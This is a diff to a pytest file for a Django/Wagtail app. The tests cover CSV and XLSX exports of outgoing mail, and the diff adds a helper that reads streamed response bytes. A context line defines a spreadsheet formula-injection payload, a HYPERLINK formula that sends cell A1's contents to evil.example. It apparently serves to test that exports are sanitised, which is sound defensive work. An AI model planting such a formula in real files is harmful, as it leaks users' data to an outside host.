@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+from typing import Any
 
 import pytest
 from django.test import Client
@@ -20,8 +21,13 @@ pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
 
 
+def _body(response: Any) -> bytes:
+    """An export's bytes (Wagtail streams them)."""
+    return b"".join(response.streaming_content)
+
+
 def _rows(response: object) -> list[list[str]]:
-    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
+    body = _body(response).decode()
     return list(csv.reader(io.StringIO(body)))
 
 
@@ -68,7 +74,7 @@ def test_text_xml_cannot_hold_is_replaced_visibly_in_xlsx(
     OutgoingMail.objects.create(kind="download", to="a@example.nl", subject="Voor Anna\ufffe")
     response = editor_client.get(url)
     assert response.status_code == 200
-    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    sheet = load_workbook(io.BytesIO(_body(response))).active
     assert sheet is not None
     cells = {str(cell.value) for row in sheet.iter_rows() for cell in row}
     assert cells & {"Anna\ufffd\ufffd", "Bert\ufffd", "Voor Anna\ufffd"}
